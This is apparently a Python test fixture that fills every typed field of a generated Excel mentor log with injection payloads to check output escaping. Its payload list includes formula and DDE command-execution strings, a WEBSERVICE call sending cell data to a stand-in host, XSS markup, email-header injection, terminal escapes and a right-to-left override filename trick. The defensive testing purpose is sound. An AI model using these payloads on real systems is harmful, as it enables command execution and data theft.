"""What somebody may type where a name belongs, and mentor logs that hold it wherever a person can type."""

from collections.abc import Mapping, Sequence
from datetime import date
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from mentortools.adapters.mentor_log import Prefill, PrefillValue, build_log
from mentortools.policy.every_year import every_year

MARK = "zq7"
"""Stands in every name that could come alive, so that it can be looked for where no name belongs."""

ALIVE = (
    f'=HYPERLINK("http://{MARK}.example","Ada")',
    f"+cmd{MARK}",
    f"-2+3{MARK}",
    f"@SUM({MARK})",
    f"\t=1+{MARK}",
    f"＝1+{MARK}",
    f"' ={MARK}",
    f"{{={MARK}}}",
    f"=cmd|' /C {MARK}'!A0",
    f'=DDE("{MARK}";"file";"item")',
    f'=WEBSERVICE("http://{MARK}.example/"&A1)',
    f"http://{MARK}.example/",
    f"mailto:{MARK}@school.example",
    f"javascript:alert('{MARK}')",
    f"internal:'{MARK}'!A1",
    f"external:\\\\{MARK}\\share\\book.xlsx",
    f"file:///{MARK}",
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror={MARK}()>',
    f"Ada\r\nBcc: {MARK}@school.example",
    f"Ada\r\n\r\n<html>{MARK}",
    f"\x1b[31mAda\x1b[0m{MARK}",
    f"Ada\x9b2J\x7f\x07\x0b{MARK}",
    f"\u202egpj.{MARK}",
    f'&L&"{MARK},Bold"&99 &G',
    f"St {MARK}'s/St Mary's [a]:*?",
    f"{{found}}{{0.__class__}}%s{MARK}",
    f"]]>&{MARK};<!--",
)
"""Text that one program or another takes for a formula, a link, markup, a header, or an order to a screen."""

NUMBERS = ("00123", "1-2", "1E5", "0x1F", "3/4", "007.10", "TRUE", "1.000,5", "１２", "#REF!", "0012345")
"""Text that looks like a number, a date or another value of a cell."""

STEERING = tuple(code for code in range(32) if chr(code) not in "\t\n")
_STAND_IN = 0xE000
"""Signs that steer stand in a package by their numbers. Until it is made, each has a stand-in that nobody uses."""

LONG = "Ada " + "x" * 32_763
"""As much as a cell holds: what is put before or after it makes it too long for one."""


def log(name: str, number: int) -> bytes:
    """A log with a claim and faults, of a school of its own, with the name wherever text can be typed."""
    name = name.translate({code: _STAND_IN + code for code in STEERING})
    trn, urn = f"{900_000 + number:07}", f"{190_000 + number}"
    session: dict[str, PrefillValue] = {"date": date(2025, 10, 14), "mentor_trn": trn, "provider_code": "1ZZ"}
    session |= {"activity": name, "mode": name}
    rows: Mapping[str, Sequence[Mapping[str, PrefillValue]]] = {
        "Providers": [{"provider_code": "1ZZ", "provider_name": name, "contact_email": name}],
        "Mentors": [
            {"trn": trn, "first_name": name, "last_name": name, "email": name, "employed_by_this_school": "Yes",
             "lead_mentor": name, "time_given_as": name, "protected_slot": name, "notes": name},
        ],
        "Trainees": [
            {"trainee": name, "provider_code": "1ZZ", "route": "QTS", "mentor_trn": trn, "programme": name},
            {"trainee": name, "provider_code": "1ZZ", "route": name, "mentor_trn": trn},
        ],
        "Training log": [
            {**session, "hours": 6, "evidence": name},
            {**session, "hours": 6, "evidence": name},
            {**session, "hours": name, "evidence": name},
            {**session, "hours": 2, "date": name},
            {**session, "hours": 2, "mentor_trn": name},
            {**session, "hours": 2, "provider_code": name},
        ],
        "Mentoring log": [
            {"date": date(2025, 10, 15), "mentor_trn": trn, "trainee": name, "activity": name, "minutes": 30,
             "targets_set": name, "notes": name},
        ],
        "Spending": [{"date": date(2025, 10, 15), "category": name, "amount": 3, "evidence": name}],
        "Previous claims": [
            {"academic_year": "2024 to 2025", "mentor_trn": trn, "provider_code": "1ZZ", "hours": 3,
             "claim_reference": name, "status": "Submitted"},
        ],
    }  # fmt: skip
    school = {"name": name, "urn": urn, "district": "Leeds", "academic_year": "2025 to 2026", "trust": name,
              "contact_name": name, "contact_email": name, "ukprn": name}  # fmt: skip
    holidays: list[dict[str, PrefillValue]] = [
        {"holiday": name, "first_day": date(2025, 12, 22), "last_day": date(2026, 1, 2)}
    ]
    return _with_signs_back(build_log(Prefill(school, rows, holidays), every_year()))


def _with_signs_back(package: bytes) -> bytes:
    """The log with the signs that steer in it as Excel itself writes them: ``_x001B_``."""
    made = BytesIO()
    with ZipFile(BytesIO(package)) as before, ZipFile(made, "w", ZIP_DEFLATED) as now:
        for part in before.namelist():
            text = before.read(part)
            for code in STEERING:
                text = text.replace(chr(_STAND_IN + code).encode(), b"_x%04X_" % code)
            now.writestr(part, text)
    return made.getvalue()
